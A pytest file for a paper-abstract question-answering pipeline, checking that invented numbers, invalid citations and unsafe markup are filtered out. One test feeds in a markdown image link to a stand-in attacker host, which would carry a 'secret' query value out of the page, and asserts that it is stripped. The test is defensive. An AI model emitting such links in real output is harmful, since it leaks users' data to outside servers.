"""The answer pipeline's guards, each proven with a scripted FakeLLM."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest

from assistant.answer import answer_question
from assistant.config import AnswerConfig, load_settings
from assistant.retrieve import Retriever
from assistant.service import open_library
from assistant.sources import parse_file
from assistant.testing import FakeEmbedder, FakeLLM
from assistant.types import ABSTAIN, Answer, Paper
from vectorstore.chroma import ChromaStore

SAMPLE = Path(__file__).resolve().parents[1] / "assistant" / "data" / "hf_daily_sample.txt"
CAPPY_Q = "How many parameters does the Cappy scorer have?"


@pytest.fixture(scope="module")
def papers() -> list[Paper]:
    return parse_file(SAMPLE).papers[:8]


@pytest.fixture()
def retriever(papers: list[Paper], tmp_path: Path) -> Retriever:
    settings = load_settings(data_dir=tmp_path / "data")
    emb = FakeEmbedder()
    store = ChromaStore(None, f"t-{uuid.uuid4().hex[:12]}")
    lib = open_library(settings, write=True, embedder=emb, store=store)
    lib.ingest(papers)
    return Retriever(store, emb, top_k=3, relevance_floor=0.05)


def _ask(q: str, llm: FakeLLM, retriever: Retriever, **kw: Any) -> tuple[Answer, list[str]]:
    shown: list[str] = []
    ans = answer_question(q, llm=llm, retriever=retriever, on_sentence=shown.append, **kw)
    return ans, shown


def test_supported_answer_keeps_sentence_and_quotes_source(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue("Cappy has 360 million parameters [1].")
    ans, shown = _ask(CAPPY_Q, llm, retriever)
    assert not ans.abstained
    assert "360 million" in ans.answer
    cite = ans.citations[0]
    assert cite.title.startswith("Cappy")
    paper = retriever.store.get_paper(cite.paper_id)
    assert paper is not None
    abstract = paper.abstract
    assert cite.quote in abstract and "360 million" in cite.quote
    assert shown and " ".join(shown) == ans.answer  # what streamed is the answer, piece by piece


def test_hallucinated_number_is_never_shown(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue("Cappy has 560 million parameters [1].")
    ans, shown = _ask(CAPPY_Q, llm, retriever)
    assert "560" not in ans.answer
    assert all("560" not in s for s in shown)
    bad = [s for s in ans.sentences if not s.supported]
    assert bad and "560" in bad[0].text and "560" in bad[0].reason
    # The answer leads with the verbatim evidence, which carries the real fact, span marked.
    assert ans.answer.startswith('"') and "360 million" in ans.answer
    assert "360 million" in ans.citations[0].span


def test_world_knowledge_answer_is_replaced(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue("Paris is the capital of France.")
    ans, _ = _ask(CAPPY_Q, llm, retriever)
    assert "Paris" not in ans.answer


def test_off_topic_question_abstains_without_calling_model(retriever: Retriever) -> None:
    # the shipped relevance floor (the fixture's 0.05 lets everything through to the scorer,
    # whose weights are fitted for the real embedder, not the hashing fake)
    shipped = Retriever(retriever.store, retriever.embedder, top_k=3)
    llm = FakeLLM().enqueue("Paris.")
    ans, _ = _ask("What is the capital of France?", llm, shipped)
    assert ans.abstained and ans.answer == ABSTAIN
    assert llm.calls == []


def test_gated_retrieval_abstains_without_calling_model(
    papers: list[Paper], tmp_path: Path
) -> None:
    emb = FakeEmbedder()
    store = ChromaStore(None, f"t-{uuid.uuid4().hex[:12]}")
    open_library(load_settings(data_dir=tmp_path), write=True, embedder=emb, store=store).ingest(
        papers
    )
    strict = Retriever(store, emb, relevance_floor=0.99)
    llm = FakeLLM()
    ans, _ = _ask("How many parameters does the small scorer have?", llm, strict)
    assert ans.abstained and llm.calls == []


def _strict(papers: list[Paper], tmp_path: Path) -> Retriever:
    emb = FakeEmbedder()
    store = ChromaStore(None, f"t-{uuid.uuid4().hex[:12]}")
    open_library(load_settings(data_dir=tmp_path), write=True, embedder=emb, store=store).ingest(
        papers
    )
    return Retriever(store, emb, relevance_floor=0.99)


def test_question_naming_a_paper_passes_the_floor(papers: list[Paper], tmp_path: Path) -> None:
    # Paraphrased questions embed far from the abstract; the coined name "Cappy" still says
    # which paper is meant, so the floor does not turn it away.
    llm = FakeLLM().enqueue("Cappy has 360 million parameters [1].")
    ans, _ = _ask(CAPPY_Q, llm, _strict(papers, tmp_path))
    assert not ans.abstained and len(llm.calls) == 1
    assert "360 million" in ans.answer and ans.citations[0].title.startswith("Cappy")


def test_named_paper_lacking_the_detail_abstains_without_model(
    papers: list[Paper], tmp_path: Path
) -> None:
    llm = FakeLLM().enqueue("Cappy was trained with a learning rate of 0.001 [1].")
    ans, _ = _ask("What learning rate was used to pretrain Cappy?", llm, _strict(papers, tmp_path))
    assert ans.abstained and llm.calls == []


def test_named_paper_must_supply_the_evidence(retriever: Retriever) -> None:
    # Another retrieved abstract states a parameter count (Cappy's 360 million); a question
    # about ShapefileGPT's parameters is not answered by it.
    llm = FakeLLM().enqueue("ShapefileGPT has 360 million parameters [1].")
    ans, _ = _ask("How many parameters does ShapefileGPT have?", llm, retriever)
    assert ans.abstained and llm.calls == []


def test_citation_of_unretrieved_source_is_invalid(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue("Cappy has 360 million parameters [7].")
    ans, _ = _ask(CAPPY_Q, llm, retriever)
    assert "[7]" not in ans.answer
    markers = {c.marker for c in ans.citations}
    assert markers and markers <= {1, 2, 3}


def test_nothing_supported_and_no_evidence_abstains(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue("The learning rate was 0.001 [1].")
    ans, _ = _ask("What learning rate was used to train the Cappy scorer?", llm, retriever)
    assert ans.abstained and ans.answer == ABSTAIN


def test_model_abstention_adds_nothing_to_the_evidence(retriever: Retriever) -> None:
    # Whether the abstracts answer is the answerability scorer's call, not the small model's:
    # a model that declines adds no sentence, and the verified evidence is still shown.
    llm = FakeLLM().enqueue(ABSTAIN)
    ans, _ = _ask(CAPPY_Q, llm, retriever)
    assert not ans.abstained and ans.kind == "answer"
    assert ABSTAIN not in ans.answer and "360 million" in ans.answer
    assert not any(s.supported for s in ans.sentences if s.origin == "model")


def test_unanswerable_question_never_reaches_the_model(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue("Cappy was trained with a batch size of 512 [1].")
    ans, _ = _ask("Which two datasets was the Cappy scorer pretrained on?", llm, retriever)
    assert ans.abstained and ans.kind == "abstain" and ans.answer == ABSTAIN
    assert ans.answerability is not None and ans.answerability < 0.9
    assert not llm.calls


def test_prompt_fits_budget_and_reports_dropped_sources(retriever: Retriever) -> None:
    llm = FakeLLM(n_ctx=420).enqueue("Cappy has 360 million parameters [1].")
    ans, _ = _ask(CAPPY_Q, llm, retriever, config=AnswerConfig(max_tokens=100))
    assert llm.calls, "model was called"
    assert llm.prompt_tokens(llm.calls[0]) + 100 <= 420
    retrieved = {r.paper_id for r in ans.retrieved}
    assert ans.dropped_sources and set(ans.dropped_sources) <= retrieved


def test_followup_is_rewritten_then_verified(retriever: Retriever) -> None:
    history = [
        {"role": "user", "content": "Tell me about the Cappy scorer."},
        {"role": "assistant", "content": "Cappy is a small scorer [1]."},
    ]
    llm = FakeLLM().enqueue("Cappy has 360 million parameters [1].")
    ans, _ = _ask("How many parameters does it have?", llm, retriever, history=history)
    # resolved without the model (the previous turn names its subject), then answered
    assert ans.standalone_question is not None and "Cappy" in ans.standalone_question
    assert "360 million" in ans.answer


def test_rewrite_that_invents_an_entity_is_rejected(retriever: Retriever) -> None:
    history = [{"role": "user", "content": "Tell me about the Cappy scorer."}]
    llm = FakeLLM().enqueue(
        "How many parameters does GPT-4 have?", "Cappy has 360 million parameters [1]."
    )
    ans, _ = _ask("How many parameters does it have?", llm, retriever, history=history)
    assert "GPT-4" not in (ans.standalone_question or "")
    assert "Cappy" in (ans.standalone_question or "")


def test_unsafe_markup_in_model_output_is_stripped(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue(
        "Cappy has 360 million parameters [1]. ![x](http://evil.invalid/?q=secret)"
    )
    ans, _ = _ask(CAPPY_Q, llm, retriever)
    assert "evil.invalid" not in ans.answer and "![" not in ans.answer


def test_compound_question_leads_with_evidence_for_each_part(retriever: Retriever) -> None:
    llm = FakeLLM().enqueue("No sources.")
    q = (
        "How many parameters does the Cappy scorer have, and what object detection score "
        "does heuristic multi-task vision pre-training reach on COCO?"
    )
    ans, _ = _ask(q, llm, retriever)
    assert not ans.abstained
    assert "360 million" in ans.answer and "47.9" in ans.answer
    assert len({c.paper_id for c in ans.citations}) == 2


def test_each_quoted_evidence_sentence_is_cited_with_its_own_span() -> None:
    # Two sentences of one paper lead the answer; the answering part is in the second, so
    # each quote is cited (same marker) and marked on its own.
    from assistant import evidence
    from assistant.answer import _citations, _Verifier
    from assistant.context import SourceBlock
    from assistant.types import Hit

    first = "We propose Alpha, a planner for household robots."
    second = "Alpha is evaluated on 12 kitchens and 3 offices."
    abstract = f"{first} {second}"
    hit = Hit(chunk_id="c1", paper_id="p1", title="Alpha", text=abstract, score=1.0)
    block = SourceBlock(marker=1, hit=hit, title="Alpha", text=abstract, abstract=abstract)
    q = "How many kitchens is Alpha evaluated on?"
    verifier = _Verifier(q, [block], None, 0.5, None)
    src = evidence.Source(key=1, paper_id="p1", title="Alpha", abstract=abstract)
    for i, s in enumerate((first, second)):
        span = evidence.mark_span(q, s)
        cand = evidence.Candidate(src, s, i, {}, 0.9 - i / 10, span)
        verifier.used.setdefault(1, s)
        verifier.leads.setdefault(1, []).append(cand)
    cites = _citations(q, verifier, [block])
    assert [c.quote for c in cites] == [first, second]
    assert {c.marker for c in cites} == {1}
    assert cites[1].span == "12 kitchens"
    assert cites[1].span_start is not None
    assert second[cites[1].span_start :].startswith("12 kitchens")
